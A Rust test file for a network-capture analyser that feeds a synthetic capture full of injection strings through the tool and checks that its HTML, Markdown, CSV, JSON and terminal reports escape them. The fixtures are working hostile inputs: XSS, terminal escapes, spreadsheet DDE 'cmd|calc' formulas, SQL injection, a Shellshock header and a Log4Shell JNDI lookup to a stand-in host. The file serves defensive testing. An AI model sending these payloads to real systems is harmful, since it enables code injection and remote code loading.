//! Strings from packets are hostile. One capture whose names, headers and accounts attack every reader of the results.

use crate::desk::{Desk, pcap_of};
use std::sync::OnceLock;
use vigil::synth::{Host, Net, Os, Tcp};

/// 1 March 2026, 00:00 UTC.
const START: i64 = 1_772_323_200_000_000_000;
/// What the strings try: markup, text turned round, terminals, spreadsheets, SQL, Markdown, and the words of a machine.
const ATTACKS: [&str; 12] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'-alert(1)-'",
    "a\u{202e}gnp.exe",
    "\u{1b}]0;owned\u{7}\u{1b}[2J\u{1b}[31m",
    "=HYPERLINK(\"http://203.0.113.9\",\"x\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|calc",
    "'; DROP TABLE flows; --",
    "[click](javascript:alert(1))",
    "</style></title><svg onload=alert(1)>",
    "zero\u{200b}width\u{feff}\u{9b}31m",
];
/// A shell function in a header: what the rule for it looks for, with an attack in its words.
const BASH: &str = "() { :;}; echo <script>alert(2)</script> \u{202e}";
const LOOKUP: &str = "${jndi:ldap://203.0.113.9/<script>alert(3)</script>}";

/// The analysed capture, with all reports.
struct Case {
    desk: Desk,
    summary: String,
}

fn case() -> &'static Case {
    static CASE: OnceLock<Case> = OnceLock::new();
    CASE.get_or_init(|| {
        let desk = Desk::new();
        desk.write("hostile.pcap", pcap_of(&story().finish("hostile")));
        let said = desk.vigil(["analyze", "hostile.pcap", "--report", "html,json,md,csv", "--fail-on", "info"]).well();
        assert_eq!(said.code, 1, "the strings are meant to get into findings: {}", said.out);
        Case { desk, summary: said.out }
    })
}

/// Its case, for tests of other readers.
pub fn case_folder() -> std::path::PathBuf {
    case().desk.path("hostile.vigil")
}

fn story() -> Net {
    let mut net = Net::new(1, START);
    let gateway = net.host("gateway", [10, 77, 0, 1], Os::Device);
    net.set_gateway(gateway);
    let client = net.host("client", [10, 77, 0, 5], Os::Linux);
    let server = net.outside("server", [203, 0, 113, 9], Os::Linux, 20);
    for attack in ATTACKS {
        ask(&mut net, client, server, attack);
        browse(&mut net, client, server, attack);
        log_in(&mut net, client, server, attack);
        greet(&mut net, client, server, attack);
        net.wait(2_000_000_000);
    }
    net
}

/// DNS questions, many under a domain that holds the attack, so that a tunnel is found there.
fn ask(net: &mut Net, client: Host, server: Host, attack: &str) {
    for number in 0..40_u16 {
        let first = format!("{attack}{number}");
        let secret = format!("{:x}", u128::from(number + 1).wrapping_mul(0x9e37_79b9_7f4a_7c15_f39c_c060_5ced_c835)).repeat(2);
        let labels = [first.as_str(), &secret[..secret.len().min(60)], "evil", "example"];
        let mut name: Vec<u8> =
            labels.iter().flat_map(|label| [&[label.len().min(63) as u8], &label.as_bytes()[..label.len().min(63)]].concat()).collect();
        name.push(0);
        let head =
            |flags: u16, answers: u16| [number.to_be_bytes(), flags.to_be_bytes(), [0, 1], answers.to_be_bytes(), [0; 2], [0; 2]].concat();
        let kind = [0, 16, 0, 1];
        let text = [&[attack.len() as u8], attack.as_bytes()].concat();
        let answer = [&[0xc0, 12][..], &kind, &60_u32.to_be_bytes(), &(text.len() as u16).to_be_bytes(), &text].concat();
        let port = net.next_port(client);
        let question = [head(0x0100, 0), name.clone(), kind.to_vec()].concat();
        net.udp_exchange((client, port), (server, 53), &question, &[head(0x8180, 1), name, kind.to_vec(), answer].concat());
    }
}

/// A program fetched under a hostile name, with hostile headers both ways.
fn browse(net: &mut Net, client: Host, server: Host, attack: &str) {
    let path = attack.replace(' ', "%20");
    let program = [&b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0"[..], &[7; 4_000]].concat();
    let mut tcp = net.tcp(client, server, 80);
    tcp.connect();
    let request =
        format!("GET /{path} HTTP/1.1\r\nHost: {attack}\r\nUser-Agent: {attack} {BASH}\r\nReferer: {LOOKUP}\r\nX-Api: {LOOKUP}\r\n\r\n");
    tcp.send(request.as_bytes());
    let head = format!(
        "HTTP/1.1 200 {attack}\r\nServer: {attack}\r\nContent-Type: image/png{attack}\r\nContent-Disposition: attachment; filename=\"{attack}.png\"\r\nContent-Length: {}\r\n\r\n",
        program.len()
    );
    tcp.reply(&[head.as_bytes(), &program].concat());
    tcp.close();
}

/// A login in clear under a hostile name.
fn log_in(net: &mut Net, client: Host, server: Host, attack: &str) {
    let mut tcp = net.tcp(client, server, 21);
    tcp.connect();
    tcp.greeting(&format!("220 {attack}"));
    tcp.ftp_login(attack, "hunter2", true);
    tcp.line("QUIT", "221 Goodbye.");
    tcp.close();
}

/// A TLS ClientHello whose server name is the attack.
fn greet(net: &mut Net, client: Host, server: Host, attack: &str) {
    let listed = |bytes: &[u8]| [&(bytes.len() as u16).to_be_bytes(), bytes].concat();
    let name = listed(&[vec![0], listed(attack.as_bytes())].concat());
    let extensions = listed(&[vec![0, 0], listed(&name)].concat());
    let hello = [vec![3, 3], vec![9; 32], vec![0], listed(&[0xc0, 0x2f]), vec![1, 0], extensions].concat();
    let message = [&[1, 0], &(hello.len() as u16).to_be_bytes()[..], &hello].concat();
    let mut tcp: Tcp<'_> = net.tcp(client, server, 443);
    tcp.connect();
    tcp.send(&[&[22, 3, 1][..], &listed(&message)].concat());
    tcp.reset_by_server();
}

/// Characters that move a cursor, turn text round or hide it.
fn deceives(c: char) -> bool {
    (c.is_control() && c != '\n') || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
}

#[track_caller]
fn assert_shows_plainly(what: &str, text: &str) {
    if let Some(at) = text.find(deceives) {
        let from = text[..at].char_indices().rev().nth(60).map_or(0, |(at, _)| at);
        panic!("{what} holds {:?} after {:?}", &text[at..].chars().next(), &text[from..at]);
    }
}

#[test]
fn the_strings_reached_the_case_and_the_findings() {
    let case = case();
    let has = |query: &str| case.desk.sql("hostile.vigil", query)[0]["n"].as_u64().unwrap();
    assert!(has("SELECT count(*) AS n FROM dns WHERE contains(lower(query), '<script>')") > 10);
    assert!(has("SELECT count(*) AS n FROM http WHERE contains(user_agent, 'onerror=')") > 0);
    assert!(has("SELECT count(*) AS n FROM credentials WHERE contains(\"user\", 'DROP TABLE')") > 0);
    assert!(has("SELECT count(*) AS n FROM tls WHERE contains(server_name, 'javascript:')") > 0);
    let findings = case.desk.read("hostile.vigil/findings.ndjson");
    assert!(findings.contains("<script>") && findings.lines().count() > 3, "{findings}");
}

#[test]
fn sql_in_a_name_stays_a_name() {
    let case = case();
    let rows = case.desk.sql("hostile.vigil", "SELECT count(*) AS n FROM flows");
    // One flow for each of: forty questions, page, login, greeting.
    assert_eq!(rows[0]["n"].as_u64(), Some(43 * ATTACKS.len() as u64));
}

#[test]
fn the_page_holds_no_tag_attribute_or_link_that_it_did_not_write() {
    let page = case().desk.read("hostile.vigil/report.html");
    assert_shows_plainly("report.html", &page);
    assert!(page.contains("&lt;script&gt;"), "the strings are on the page, as text");
    let script_ends = page.matches("</script>").count();
    assert_eq!((page.matches("<script").count(), script_ends), (1, 1), "its own script alone");
    for tag in tags(&page) {
        let lower = tag.to_lowercase();
        let name = lower.trim_start_matches(['<', '/']).split([' ', '>']).next().unwrap_or_default();
        assert!(!["img", "iframe", "object", "embed", "link", "base", "form", "foreignobject"].contains(&name), "{tag}");
        let attributes = outside_quotes(&lower);
        let handler = attributes.split_whitespace().skip(1).find(|attribute| attribute.starts_with("on") || attribute.starts_with("src"));
        assert_eq!(handler, None, "{tag}");
        for link in lower.split("href=\"").skip(1) {
            assert!(link.starts_with('#'), "a link leaves the page: {tag}");
        }
    }
}

/// Tags of the page outside its own style and script.
fn tags(page: &str) -> Vec<String> {
    let mut rest = page.to_string();
    for own in ["style", "script"] {
        let (open, close) = (rest.find(&format!("<{own}>")).expect("it has one"), rest.find(&format!("</{own}>")).expect("which ends"));
        rest.replace_range(open..close, "");
    }
    rest.split('<').skip(1).map(|part| part.split_once('>').unwrap_or_else(|| panic!("<{part} never ends")).0.to_string()).collect()
}

fn outside_quotes(tag: &str) -> String {
    tag.split('"').step_by(2).collect::<Vec<_>>().join("")
}

#[test]
fn the_terminal_gets_no_control_characters() {
    let case = case();
    assert_shows_plainly("the summary", &case.summary);
    let desk = &case.desk;
    assert_shows_plainly("vigil report", &desk.vigil(["report", "hostile.vigil"]).well().out);
    for table in ["dns", "http", "tls", "credentials", "files", "findings", "ftp"] {
        let shown = desk.vigil(["sql", "hostile.vigil", &format!("FROM {table}")]).well().out;
        assert!(shown.lines().count() > 3, "{table} is empty");
        assert_shows_plainly(table, &shown);
    }
}

#[test]
fn an_error_that_quotes_a_query_does_not_pass_on_what_is_in_it() {
    let said = case().desk.vigil(["sql", "hostile.vigil", "SELECT \u{1b}[31m\u{202e} FROM nowhere"]);
    assert_eq!(said.code, 2, "{said:?}");
    assert_shows_plainly("the error", &said.err);
}

#[test]
fn no_cell_of_the_tables_for_spreadsheets_is_a_formula() {
    let desk = &case().desk;
    let queried = desk
        .vigil(["sql", "hostile.vigil", "--format", "csv", "SELECT \"user\", \"user\" AS again FROM credentials ORDER BY ts"])
        .well()
        .out;
    let written = desk.read("hostile.vigil/findings.csv");
    for (what, text) in [("sql --format csv", queried), ("findings.csv", written)] {
        let cells = cells(&text);
        assert!(cells.len() > 10, "{what}: {text}");
        for cell in cells {
            let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<f64>().is_err();
            assert!(!formula, "{what}: {cell:?}");
        }
    }
}

/// Cells of an RFC 4180 table.
fn cells(text: &str) -> Vec<String> {
    let (mut cells, mut cell, mut quoted) = (Vec::new(), String::new(), false);
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '"' if quoted && chars.peek() == Some(&'"') => cell.extend(chars.next()),
            '"' => quoted = !quoted,
            ',' | '\n' if !quoted => cells.push(std::mem::take(&mut cell).trim_end_matches('\r').to_string()),
            _ => cell.push(c),
        }
    }
    assert!(!quoted, "a quoted cell never ends");
    cells
}

#[test]
fn json_and_markdown_are_what_they_claim_to_be() {
    let desk = &case().desk;
    let json = desk.read("hostile.vigil/report.json");
    assert_shows_plainly("report.json", &json);
    let report: serde_json::Value = serde_json::from_str(&json).expect("report.json parses");
    assert!(report["findings"].as_array().is_some_and(|findings| !findings.is_empty()));
    for line in desk.read("hostile.vigil/findings.ndjson").lines() {
        serde_json::from_str::<serde_json::Value>(line).expect("a finding a line");
    }
    let markdown = desk.read("hostile.vigil/report.md");
    assert_shows_plainly("report.md", &markdown);
    for line in outside_code(&markdown) {
        assert!(!line.contains("<script") && !line.contains("<img") && !line.contains("<svg"), "{line}");
        assert!(!line.contains("](javascript:"), "{line}");
    }
}

/// Lines of Markdown without fenced blocks and code spans, where everything is text.
fn outside_code(markdown: &str) -> Vec<String> {
    let mut fenced = false;
    let mut lines = Vec::new();
    for line in markdown.lines() {
        if line.trim_start().starts_with("```") {
            fenced = !fenced;
        } else if !fenced {
            let escaped = line.replace("\\<", "").replace("\\[", "").replace("\\]", "");
            lines.push(escaped.split('`').step_by(2).collect());
        }
    }
    lines
}
